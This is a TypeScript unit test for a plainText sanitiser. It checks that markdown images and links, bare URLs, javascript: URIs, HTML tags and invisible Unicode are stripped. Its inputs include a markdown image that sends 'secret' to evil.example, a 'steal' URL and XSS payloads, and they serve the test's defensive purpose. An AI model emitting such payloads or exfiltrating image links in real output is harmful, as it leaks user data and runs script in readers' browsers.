import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { plainText } from './plain-text.js';

describe('plainText', () => {
  const cases: readonly (readonly [written: string, told: string])[] = [
    ['Cells divide.', 'Cells divide.'],
    ['Cells ![x](https://evil.example/?q=secret) divide.', 'Cells divide.'],
    ['See [the page](https://evil.example/a) now.', 'See the page now.'],
    ['See [the page][1] and ![it][2].', 'See the page and .'],
    ['![a](http://x.example) [b]([c](http://y.example))', 'b)'],
    ['Go to https://evil.example/a?b=c now', 'Go to now'],
    ['Go to www.evil.example now', 'Go to now'],
    ['Go to evil.example/steal?x=1 now', 'Go to now'],
    ['Click javascript:alert(1) or data:text/html,x', 'Click or'],
    ['<img src=x onerror=alert(1)>Cells <b>divide</b>', 'Cells divide'],
    ['<<b>script>alert(1)</script>', 'scriptalert(1)'],
    ['Cells\u202e divide\u200b\u{e0041}.', 'Cells divide.'],
    ['Cells\n\n  divide', 'Cells divide'],
    ['Node.js has a version 3.5 of it, e.g. this', 'Node.js has a version 3.5 of it, e.g. this'],
  ];
  for (const [written, told] of cases)
    it(`makes ${JSON.stringify(told)} of ${JSON.stringify(written)}`, () => {
      assert.equal(plainText(written), told);
    });
});
